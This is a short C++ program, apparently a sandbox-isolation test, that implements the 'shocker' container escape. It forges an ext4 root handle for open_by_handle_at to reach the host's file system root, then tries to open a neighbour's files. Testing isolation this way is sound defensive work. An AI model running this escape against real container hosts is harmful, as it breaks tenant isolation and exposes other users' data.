// Files by their handle, past every directory: the number of a file system's root is known, and the
// one who may open by handle has all of its files ("shocker").
//   handles FOLDER   of an ext4 file system
#include "attack.h"

using namespace attack;

namespace {

struct Handle {
    unsigned bytes = 8;
    int type = 1;                        // FILEID_INO32_GEN
    unsigned inode = 2, generation = 0;  // the root of every ext4
};

}  // namespace

int main(int argc, char** argv) {
    const char* folder = argc > 1 ? argv[1] : "/";
    const int mount = open(folder, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    Attempt("the folder", mount);
    Handle handle;
    const long root =
        syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    Attempt("the root by its handle", root);
    Attempt("a neighbour's files",
            openat(static_cast<int>(root), "volumes/neighbour", O_RDONLY | O_CLOEXEC));
    Done();
}
